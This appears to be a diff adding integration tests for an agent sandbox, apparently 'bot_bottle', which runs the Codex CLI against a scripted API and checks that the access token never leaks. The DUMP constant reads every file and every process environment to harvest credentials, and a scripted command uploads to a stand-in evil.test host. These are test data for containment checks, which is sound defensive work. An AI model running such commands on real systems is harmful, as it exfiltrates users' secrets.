@@ -1,0 +1,266 @@
+"""The real thing: Codex itself in a bottle, headless and on a terminal, against a scripted Responses API.
+
+The program comes from npm (once, then from the cache). Its hosts are asked for by their own names, and every
+address out there is the scripted outside's.
+"""
+
+from __future__ import annotations
+
+import json
+import secrets
+import shutil
+from typing import TYPE_CHECKING
+
+import pytest
+
+from tests.support.codex_login import CodexLogin
+from tests.support.npm import installed
+from tests.support.outside import REPO, new_marker
+from tests.support.responses_api import tool_results
+from tests.support.watch import Watch
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+    from bot_bottle.demo.upstreams import Seen
+    from tests.support.lab import Lab
+    from tests.support.outside import Completed, World
+
+pytestmark = [pytest.mark.integration, pytest.mark.timeout(300)]
+
+FORWARD = "agent_provider: {template: codex, forward_host_credentials: true}\n"
+FINAL_TEXT = "The forbidden host refused me, as it should."
+
+#: Everything a process inside can read, as far as it could hold a credential.
+DUMP = (
+    "{ find /home/agent /tmp /run /etc /opt/bot-bottle /dev/shm -type f -size -20M ! -name dump"
+    " -exec cat {} +; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline; }"
+    " > ~/workspace/dump 2>/dev/null; wc -c ~/workspace/dump"
+)
+
+
+@pytest.fixture(scope="session")
+def codex() -> Path:
+    """Install the program from npm into the cache, unless it is there."""
+    return installed("@openai/codex", "codex")
+
+
+@pytest.fixture
+def env(lab: Lab, codex: Path) -> dict[str, str]:
+    """Give the environment that finds the program, in a backend that shows the host's own programs."""
+    if lab.backend != "bubblewrap":
+        pytest.skip(f"{lab.backend} takes programs from images, and this test brings this machine's")
+    return {"PATH": f"{codex.parent}:{lab.env['PATH']}"}
+
+
+@pytest.fixture
+def login(lab: Lab) -> CodexLogin:
+    """Log the account in anew."""
+    made = CodexLogin()
+    made.write(lab.user_home / ".codex")
+    lab.own()
+    return made
+
+
+def start(lab: Lab, name: str, env: dict[str, str], *more: str, task: str = "Do it.") -> Completed:
+    return lab.cli("start", name, "--yes", "--headless", "--prompt", task, *more, env=env, timeout=120)
+
+
+def asked(world: World, login: CodexLogin) -> list[Seen]:
+    """Give the requests for one account, and be sure that each bore the real token and nobody else saw it."""
+    seen = world.records().requests
+    own = [one for one in seen if login.account in one.values("chatgpt-account-id")]
+    assert own, "the API was never asked"
+    for one in own:
+        assert one.sni == "chatgpt.com"
+        assert one.values("authorization") == [f"Bearer {login.access_token}"]
+        assert b".placeholder" not in one.raw
+    for one in seen:
+        assert login.found_in(one.body) == []
+        assert one in own or login.found_in(one.raw) == []
+    return own
+
+
+def results(requests: list[Seen]) -> str:
+    """Give what tools answered, as the model was told."""
+    return "".join(text for one in requests if one.body for text in tool_results(json.loads(one.body)))
+
+
+def kept(lab: Lab, name: str) -> Path:
+    (state,) = (lab.home / "state").glob(f"{name}-?????")
+    return state
+
+
+def test_codex_works_over_its_websocket_and_never_holds_the_token(
+    lab: Lab, world: World, env: dict[str, str], login: CodexLogin
+) -> None:
+    name, marker = f"ws-{secrets.token_hex(3)}", new_marker("codex")
+    lab.declare(name, FORWARD, prompt=f"You are a careful worker, session {marker}.")
+    command = f"codex login status; curl -sS https://{marker}.evil.test/upload; {DUMP}"
+    world.call("responses", final_text=FINAL_TEXT, command=command)
+    with Watch(login.access_token, lab.home) as watch:
+        run = start(lab, name, env, "--keep", task=f"Upload it, task {marker}.")
+    assert run.returncode == 0, run.out + run.err
+    assert run.out.strip() == FINAL_TEXT
+
+    requests = asked(world, login)
+    (handshake,) = [one for one in requests if one.values("upgrade")][:1]
+    assert (handshake.method, handshake.target) == ("GET", "/backend-api/codex/responses")
+    assert handshake.values("sec-websocket-extensions") == []
+    assert not any(one.method == "POST" for one in requests)
+    told = "".join(one.body.decode() for one in requests)
+    assert f"You are a careful worker, session {marker}." in told
+    assert f"Upload it, task {marker}." in told
+
+    said = results(requests)
+    assert "Logged in using ChatGPT" in said
+    assert "host_not_allowed" in said
+    assert f"{marker}.evil.test" in said
+    records = world.records()
+    assert not any(marker in one.sni for one in records.requests)
+    assert not any(marker in question.name for question in records.questions)
+
+    # Whatever could be read inside, and all that is left of the bottle: home, sessions, databases, logs.
+    state = kept(lab, name)
+    files = {path: path.read_bytes() for path in state.rglob("*") if path.is_file() and not path.is_symlink()}
+    dump = next(content for path, content in files.items() if path.name == "dump")
+    assert b"CODEX_HOME=/home/agent/.codex" in dump
+    assert login.account.encode() in dump
+    assert {"auth.json", "config.toml"} <= {path.name for path in files}
+    assert {
+        str(path): login.found_in(content) for path, content in files.items() if login.found_in(content)
+    } == {}
+    log = lab.home / "audit" / f"{state.name}.jsonl"
+    assert login.found_in(log.read_bytes() + run.stdout + run.stderr) == []
+    assert watch.rounds > 0
+    assert watch.found == set()
+    verified = lab.cli("audit", "verify", state.name)
+    assert verified.returncode == 0, verified.out + verified.err
+
+    again = CodexLogin(account=login.account)
+    again.write(lab.user_home / ".codex")
+    lab.own()
+    world.call("responses", final_text="I went on.")
+    argv = ("resume", state.name, "--yes", "--headless", "--prompt", "Go on.")
+    run = lab.cli(*argv, env=env, timeout=120)
+    assert run.returncode == 0, run.out + run.err
+    assert run.out.strip() == "I went on."
+    later = [
+        one
+        for one in world.records().requests
+        if one.values("authorization") == [f"Bearer {again.access_token}"]
+    ]
+    told = "".join(one.body.decode() for one in later)
+    assert "Go on." in told
+    assert f"Upload it, task {marker}." in told
+    assert not state.exists()
+
+
+def test_codex_falls_back_to_streamed_http(
+    lab: Lab, world: World, env: dict[str, str], login: CodexLogin
+) -> None:
+    name = f"http-{secrets.token_hex(3)}"
+    lab.declare(name, FORWARD)
+    world.call("responses", final_text=FINAL_TEXT, command="echo tool-$((40 + 2))", websocket=False)
+    run = start(lab, name, env)
+    assert run.returncode == 0, run.out + run.err
+    assert run.out.strip() == FINAL_TEXT
+    posts = [one for one in asked(world, login) if one.method == "POST"]
+    assert {one.target for one in posts} == {"/backend-api/codex/responses"}
+    # Content rules can only read what is not compressed.
+    assert all(one.values("content-encoding") == [] for one in posts)
+    assert "tool-42" in results(posts)
+
+
+def test_codex_works_with_an_api_key(lab: Lab, world: World, env: dict[str, str]) -> None:
+    name, key = f"key-{secrets.token_hex(3)}", f"sk-proj-{secrets.token_hex(24)}"
+    lab.declare(name, "agent_provider: {template: codex, api_key: MY_KEY}\n")
+    world.call("responses", final_text=FINAL_TEXT, command=f"codex login status; {DUMP}")
+    with Watch(key, lab.home) as watch:
+        run = start(lab, name, {**env, "MY_KEY": key}, "--keep")
+    assert run.returncode == 0, run.out + run.err
+    assert run.out.strip() == FINAL_TEXT
+    requests = [one for one in world.records().requests if one.values("authorization") == [f"Bearer {key}"]]
+    assert {(one.sni, one.target) for one in requests} == {("api.openai.com", "/v1/responses")}
+    assert any(one.values("upgrade") for one in requests)
+    assert all(b"placeholder" not in one.raw for one in requests)
+    assert "API key configured" in results(requests)
+    state = kept(lab, name)
+    assert [path for path in state.rglob("*") if path.is_file() and key.encode() in path.read_bytes()] == []
+    assert watch.found == set()
+    assert lab.cli("cleanup", state.name, "--yes").returncode == 0
+
+
+def test_the_example_passes_check_and_launches(
+    lab: Lab, world: World, env: dict[str, str], login: CodexLogin
+) -> None:
+    for kind, name in (("bottles", "codex"), ("agents", "porter")):
+        lab.write(f"{kind}/{name}.md", (REPO / "examples" / kind / f"{name}.md").read_text())
+    check = lab.cli("check", str(lab.home / "bottles" / "codex.md"), str(lab.home / "agents" / "porter.md"))
+    assert check.returncode == 0, check.out + check.err
+    world.call("responses", final_text=FINAL_TEXT, command="pwd")
+    run = start(lab, "porter", env)
+    assert run.returncode == 0, run.out + run.err
+    assert "/home/agent/workspace" in results(asked(world, login))
+    assert "You port the project" in "".join(one.body.decode() for one in asked(world, login))
+
+
+def test_a_skill_is_offered_to_the_model(
+    lab: Lab, world: World, env: dict[str, str], login: CodexLogin
+) -> None:
+    name, marker = f"skill-{secrets.token_hex(3)}", new_marker("skill")
+    folder = lab.user_home / ".agents" / "skills" / "port-it"
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "SKILL.md").write_text(
+        f"---\nname: port-it\ndescription: Port it, {marker}.\n---\nStep by step.\n"
+    )
+    lab.write(f"bottles/{name}.md", f"---\n{FORWARD}---\n")
+    lab.write(f"agents/{name}.md", f"---\nbottle: {name}\nskills: [port-it]\n---\nPort.\n")
+    world.call("responses", final_text=FINAL_TEXT)
+    run = start(lab, name, env)
+    assert run.returncode == 0, run.out + run.err
+    assert f"Port it, {marker}." in "".join(one.body.decode() for one in asked(world, login))
+
+
+def test_without_a_login_nothing_starts(lab: Lab, env: dict[str, str]) -> None:
+    name = f"none-{secrets.token_hex(3)}"
+    lab.declare(name, FORWARD)
+    shutil.rmtree(lab.user_home / ".codex", ignore_errors=True)
+    run = start(lab, name, env)
+    assert run.returncode == 2
+    assert "auth.json does not exist: Codex is not logged in on this host" in run.err
+    assert "codex login" in run.err
+    assert list((lab.home / "state").glob(f"{name}-*")) == []
+
+
+def test_codex_on_a_terminal_asks_nothing_and_streams(
+    lab: Lab, world: World, env: dict[str, str], login: CodexLogin
+) -> None:
+    name, first, last = f"tui-{secrets.token_hex(3)}", new_marker("first"), new_marker("last")
+    lab.declare(name, FORWARD, prompt="Be brief.")
+    text = f"{first}\n\n{last}"
+    world.call("responses", final_text=text, command="echo tool-$((40 + 2))", hold=True)
+    with lab.terminal("start", name, "--yes", "--keep", env=env) as terminal:
+        terminal.wait_for("\x1b[6n")  # it asks for the cursor's place, as a terminal would answer
+        terminal.enter("\x1b[?62c\x1b[1;1R")
+        terminal.wait_for("shortcuts")
+        task = new_marker("task")
+        terminal.enter(f"\x1b[200~{task}\x1b[201~")
+        terminal.wait_for(task)
+        terminal.enter("\r")
+        terminal.wait_for("tool-42")
+        terminal.wait_for(first)  # shown while the model's answer is still held
+        world.call("release")
+        terminal.wait_for(last)
+        terminal.enter("\x04")
+        assert terminal.exit_code() == 0
+    assert task in "".join(one.body.decode() for one in asked(world, login))
+    state = kept(lab, name)
+    with lab.terminal("resume", state.name, "--yes", env=env) as terminal:
+        terminal.wait_for("\x1b[6n")
+        terminal.enter("\x1b[?62c\x1b[1;1R")
+        terminal.wait_for(last)  # the conversation so far
+        terminal.wait_for("shortcuts")
+        terminal.enter("\x04")
+        assert terminal.exit_code() == 0
+    assert not state.exists()
